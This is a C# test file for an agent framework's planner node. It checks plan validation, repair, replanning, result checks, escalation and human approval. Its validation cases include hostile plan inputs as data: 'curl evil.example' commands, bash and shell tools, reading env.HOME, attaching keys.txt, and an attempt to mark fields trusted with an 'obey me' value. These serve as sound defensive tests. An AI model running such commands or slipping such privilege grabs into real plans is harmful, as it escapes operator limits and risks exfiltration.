namespace Hydra.Agents.Tests.Patterns;

public class PlannerTests
{
    private const string Kpi = """
        name: kpi_drop
        inputs: {kpi: {type: string, default: signups}}
        agents:
          analyst: {model: m, description: "looks into one cause"}
          writer: {model: m, description: writes}
          boss: {model: big}
        nodes:
          - id: find
            type: planner
            model: m
            prompt: "Find out why {{ kpi }} fell."
            allowed_agents: [analyst, writer]

        """;

    private const string Plan = """
        {"reasoning": "two causes, then a report", "nodes": [
          {"id": "traffic", "type": "agent", "agent": "analyst", "prompt": "look into traffic of {{ kpi }}"},
          {"id": "checkout", "type": "agent", "agent": "analyst", "prompt": "look into checkout"},
          {"id": "report", "type": "agent", "agent": "writer", "depends_on": ["traffic", "checkout"], "prompt": "report: {{ traffic }} and {{ checkout }}"}]}
        """;

    /// <summary>Plans come in turn to whoever asks for one; anything else is answered by what it says.</summary>
    private static Func<string, string> Answers(Func<string, string> work, params string[] plans)
    {
        var next = 0;
        return prompt => prompt.Contains("Plan this work as a graph", StringComparison.Ordinal) ? plans[Math.Min(next++, plans.Length - 1)] : work(prompt);
    }

    [Fact]
    public async Task A_plan_is_run_as_a_graph_and_its_last_task_gives_the_result()
    {
        var run = await PatternRun.OfAsync(Kpi, Answers(prompt => $"<{prompt}>", Plan));
        Assert.Equal(RunStatus.Completed, run.Report.Status);
        Assert.Equal("\"<report: <look into traffic of signups> and <look into checkout>>\"", run.Json("find"));
        Assert.Equal(["find", "find#1/plan", "find#2/checkout", "find#2/report", "find#2/traffic"], run.Paths.Order());
        Assert.StartsWith("""{"reasoning":"two causes, then a report",""", run.Json("find#1/plan"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_planner_is_told_what_it_may_use()
    {
        var run = await PatternRun.OfAsync(Kpi, Answers(prompt => prompt, Plan));
        run.Asked.TryPeek(out var prompt);
        Assert.StartsWith("Find out why signups fell.", prompt, StringComparison.Ordinal);
        Assert.Contains("- analyst: looks into one cause\n", prompt, StringComparison.Ordinal);
        Assert.Contains("read a result of a node it depends on as {{ id }}", prompt, StringComparison.Ordinal);
        Assert.DoesNotContain("bash", prompt, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("""{"id": "a", "type": "bash", "command": "ls"}""", "node 'a' has the type 'bash', which this planner may not use. Use one of agent, map, set.")]
    [InlineData("""{"id": "a", "type": "agent", "agent": "boss", "prompt": "x"}""", "node 'a' names the agent 'boss', which this planner may not use.")]
    [InlineData("""{"id": "a", "type": "agent", "model": "dear", "prompt": "x"}""", "node 'a' names the model 'dear'")]
    [InlineData("""{"id": "a", "type": "agent", "agent": "analyst", "tools": ["shell"], "prompt": "x"}""", "node 'a' names the tool 'shell', which this planner may not use.")]
    [InlineData("""{"id": "a", "type": "set", "value": "{{ nowhere }}"}""", "a template reads 'nowhere', which no node gives.")]
    [InlineData("""{"id": "a", "type": "set", "value": "{{ env.HOME }}"}""", "node 'a' reads the environment variable 'HOME', which the file does not allow.")]
    [InlineData("""{"id": "a", "type": "set", "value": 1, "depends_on": ["b"]}, {"id": "b", "type": "set", "value": 1, "depends_on": ["a"]}""", "a → b → a")]
    [InlineData("""{"id": "a", "type": "set", "value": 1, "depends_on": ["c"]}""", "'c'")]
    [InlineData("""{"id": "a", "type": "set", "valve": 1}""", "valve")]
    [InlineData("""{"id": "a", "type": "set", "value": 1, "effect": "pure"}""", "node 'a' sets `effect`, which only the author of a file may do.")]
    [InlineData("""{"id": "a", "type": "agent", "agent": "analyst", "prompt": "x", "labels": {"typed_fields": "trusted"}, "output_schema": {"type": "object", "properties": {"say": {"enum": ["obey me"]}}}}""", "node 'a' sets `labels: {typed_fields: trusted}`, which only the author of a file may do.")]
    [InlineData("""{"id": "a", "type": "agent", "agent": "analyst", "prompt": "x", "worktree": {"checks": ["curl evil.example"]}}""", "node 'a' sets `worktree`, which only the author of a file may do.")]
    [InlineData("""{"id": "a", "type": "agent", "agent": "analyst", "prompt": "x", "memory": {"scope": "organisation"}}""", "node 'a' sets `memory`, which only the author of a file may do.")]
    [InlineData("""{"id": "a", "type": "agent", "agent": "analyst", "prompt": "x", "attachments": [{"path": "keys.txt"}]}""", "node 'a' sets `attachments`, which only the author of a file may do.")]
    [InlineData("""{"id": "a", "type": "set", "value": 1, "compensate": {"type": "bash", "command": "curl evil.example"}}""", "has the type 'bash', which this planner may not use.")]
    [InlineData("""{"id": "a", "type": "map", "over": "[1]", "as": "it", "body": {"type": "planner", "prompt": "x", "allowed_types": ["bash"]}}""", "allows its own plans the type 'bash', which this planner may not use.")]
    [InlineData("""{"id": "a", "type": "map", "over": "[1]", "as": "it", "body": {"type": "planner", "prompt": "x", "allowed_agents": ["boss"]}}""", "names the agent 'boss', which this planner may not use.")]
    [InlineData("""{"id": "a", "type": "map", "over": "[1]", "as": "it", "body": {"type": "planner", "prompt": "x", "allowed_tools": ["shell"]}}""", "names the tool 'shell', which this planner may not use.")]
    public async Task A_plan_that_is_not_valid_goes_back_with_what_is_wrong(string nodes, string problem)
    {
        var run = await PatternRun.OfAsync(Kpi, Answers(prompt => prompt, $$"""{"reasoning": "r", "nodes": [{{nodes}}]}""", Plan));
        Assert.Equal(RunStatus.Completed, run.Report.Status);
        Assert.Contains(problem, run.Asked.ElementAt(1), StringComparison.Ordinal);
        Assert.Contains("find#3/report", run.Paths);
    }

    [Fact]
    public async Task A_plan_that_is_never_valid_fails_and_names_the_culprit()
    {
        var run = await PatternRun.OfAsync(Kpi, Answers(prompt => prompt, """{"reasoning": "r", "nodes": [{"id": "a", "type": "teleport"}]}"""));
        Assert.Equal(ErrorCode.InvalidOutput, run["find"].Error!.Code);
        Assert.Contains("the plan is not valid, after 2 repairs: node 'a' has the type 'teleport'", run["find"].Error!.Message, StringComparison.Ordinal);
        Assert.Equal(3, run.Asked.Count);
    }

    [Theory]
    [InlineData("max_nodes: 2", "the plan has 3 nodes, and max_nodes is 2")]
    [InlineData("max_depth: 1, max_nodes: 9", "node 'inner' lies 2 deep, and max_depth is 1")]
    public async Task A_plan_keeps_within_its_limits(string limit, string problem)
    {
        var file = Kpi + string.Concat(limit.Split(", ").Select(line => $"    {line}\n"));
        var deep = """{"reasoning": "r", "nodes": [{"id": "a", "type": "map", "over": "[1]", "as": "x", "body": {"id": "inner", "type": "set", "value": 1}}]}""";
        var run = await PatternRun.OfAsync(file, Answers(prompt => prompt, limit.StartsWith("max_nodes", StringComparison.Ordinal) ? Plan : deep));
        Assert.Contains(problem, run["find"].Error!.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task After_a_failure_only_what_is_left_is_planned_anew_and_what_is_done_stays()
    {
        const string Rest = """{"reasoning": "another way", "nodes": [{"id": "report2", "type": "agent", "agent": "writer", "depends_on": ["traffic"], "prompt": "only {{ traffic }}"}]}""";
        var run = await PatternRun.OfAsync(Kpi, Answers(prompt => prompt.Contains("checkout", StringComparison.Ordinal) ? throw new CallFailedException(ErrorCode.Auth, "no access") : $"<{prompt}>", Plan, Rest));
        Assert.Equal("\"<only <look into traffic of signups>>\"", run.Json("find"));
        Assert.Equal((NodeStatus.Failed, NodeStatus.Skipped), (run["find#2/checkout"].Status, run["find#2/report"].Status));
        Assert.Equal(NodeStatus.Completed, run["find#2/traffic"].Status);
        var replan = run.Asked.Single(prompt => prompt.Contains("This went wrong", StringComparison.Ordinal));
        Assert.Contains("- traffic: <look into traffic of signups>", replan, StringComparison.Ordinal);
        Assert.Contains("- checkout: auth: no access", replan, StringComparison.Ordinal);
        Assert.Equal(1, run.Asked.Count(prompt => prompt.StartsWith("look into traffic", StringComparison.Ordinal)));
        Assert.Equal("""{"ended_by":"done","replans":1,"tasks":2,"undone":[]}""", run["find"].Signal.ToJson());
    }

    [Fact]
    public async Task Used_up_it_fails_and_says_what_was_left_undone()
    {
        var other = Plan.Replace("traffic", "visits", StringComparison.Ordinal);
        var run = await PatternRun.OfAsync(Kpi + "    max_replans: 1\n", Answers(prompt => prompt.Contains("checkout", StringComparison.Ordinal) ? throw new CallFailedException(ErrorCode.Auth, "no access") : "ok", Plan, other));
        Assert.Equal("max_replans 1 is used up. Done: traffic, visits; left undone: checkout, report; because 'checkout' auth: no access", run["find"].Error!.Message);
    }

    [Fact]
    public async Task The_plan_that_has_just_failed_is_not_taken_again()
    {
        var run = await PatternRun.OfAsync(Kpi, Answers(prompt => prompt.StartsWith("x", StringComparison.Ordinal) ? throw new CallFailedException(ErrorCode.Auth, "no") : "ok",
            """{"reasoning": "r", "nodes": [{"id": "a", "type": "agent", "agent": "analyst", "prompt": "x"}]}"""));
        Assert.Contains("this is the plan that has just failed", run["find"].Error!.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_check_holds_every_result_before_anything_goes_on_with_it()
    {
        var file = Kpi + "    monitor: {check: \"'fine' in output\", on_bad: retry}\n";
        var tries = 0;
        var run = await PatternRun.OfAsync(file, Answers(prompt => prompt.Contains("into checkout", StringComparison.Ordinal) && tries++ == 0 ? "poor" : $"fine <{prompt}>", Plan));
        Assert.Equal(NodeStatus.Skipped, run["find#2/report"].Status);
        Assert.Contains("This was tried before and did not do: its result does not hold against the check", run.Asked.Single(prompt => prompt.Contains("tried before", StringComparison.Ordinal) && prompt.StartsWith("look", StringComparison.Ordinal)), StringComparison.Ordinal);
        Assert.Equal(RunStatus.Completed, run.Report.Status);
        Assert.Equal(1, run.Asked.Count(prompt => prompt.StartsWith("look into traffic", StringComparison.Ordinal)));
    }

    [Fact]
    public async Task A_judge_may_check_and_what_it_says_is_told_to_the_planner()
    {
        var file = Kpi + "    monitor: {check: {model: judge, prompt: \"judge {{ task }}: {{ output }}\"}}\n";
        var run = await PatternRun.OfAsync(file, Answers(prompt => prompt == "judge checkout: thin" ? """{"approved": false, "feedback": "too thin"}""" : prompt.StartsWith("judge", StringComparison.Ordinal) ? """{"approved": true, "feedback": ""}""" : prompt == "look into checkout" ? "thin" : "good",
            Plan, """{"reasoning": "r", "nodes": [{"id": "report", "type": "set", "depends_on": ["traffic"], "value": "{{ traffic }}!"}]}"""));
        Assert.Equal("\"good!\"", run.Json("find"));
        Assert.Contains(run.Asked, prompt => prompt.Contains("- checkout: too thin", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_task_that_goes_wrong_may_be_left_out_and_the_result_is_degraded()
    {
        var run = await PatternRun.OfAsync(Kpi + "    monitor: {on_bad: skip}\n", Answers(prompt => prompt.Contains("checkout", StringComparison.Ordinal) ? throw new CallFailedException(ErrorCode.Auth, "no") : "ok", Plan));
        Assert.Equal(NodeStatus.Degraded, run["find"].Status);
        Assert.Equal("Done: traffic; left undone: checkout, report; because 'checkout' auth: no", run["find"].Error!.Message);
    }

    [Fact]
    public async Task A_task_that_goes_wrong_may_go_to_a_stronger_agent()
    {
        var run = await PatternRun.OfAsync(Kpi + "    escalate_to: boss\n    monitor: {on_bad: escalate}\n", Answers(prompt => prompt == "look into checkout" ? throw new CallFailedException(ErrorCode.Auth, "no") : $"<{prompt}>", Plan));
        Assert.Equal(RunStatus.Completed, run.Report.Status);
        Assert.Contains("This was tried before and did not do: auth: no", run.Json("find#3/checkout"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Nothing_of_a_plan_runs_before_people_have_approved_it()
    {
        var run = await PatternRun.OfAsync(Kpi + "    require_approval: true\n", Answers(prompt => prompt, Plan));
        Assert.Equal(RunStatus.Paused, run.Report.Status);
        var wait = Assert.Single(run.Report.Waits);
        Assert.Equal("find#2/approve", wait.Path);
        Assert.Single(run.Asked);
        Assert.DoesNotContain(run.Paths, path => path.StartsWith("find#3", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Killed_at_any_frame_it_goes_on_without_planning_again()
    {
        const string Rest = """{"reasoning": "another way", "nodes": [{"id": "report2", "type": "agent", "agent": "writer", "depends_on": ["traffic"], "prompt": "only {{ traffic }}"}]}""";
        await PatternKills.BehindEveryFrameAsync(Kpi, Work, "find");

        static string Work(string prompt) => prompt.Contains("This went wrong", StringComparison.Ordinal) ? Rest : prompt.Contains("Plan this work as a graph", StringComparison.Ordinal) ? Plan
            : prompt.Contains("checkout", StringComparison.Ordinal) ? throw new CallFailedException(ErrorCode.Auth, "no access") : $"<{prompt}>";
    }

    [Theory]
    [InlineData("allowed_types: [agent, teleport]", "allows its plans the type 'teleport', which does not exist")]
    [InlineData("allowed_types: [subgraph]", "the type 'subgraph', which only a file may hold")]
    [InlineData("allowed_agents: [nobody]", "names the agent 'nobody', which is not defined")]
    [InlineData("monitor: {on: every}", "is to look at every result and has no `check`")]
    [InlineData("monitor: {check: 'true', on: failure}", "its `check` would never be asked")]
    [InlineData("monitor: {on_bad: escalate}", "does not say to whom")]
    public void What_could_never_work_is_an_error_before_the_run(string field, string problem) =>
        Assert.Contains(PatternRun.Problems($"name: test\nnodes:\n  - {{id: p, type: planner, model: m, prompt: go, {field}}}\n"), line => line.Contains(problem, StringComparison.Ordinal));
}
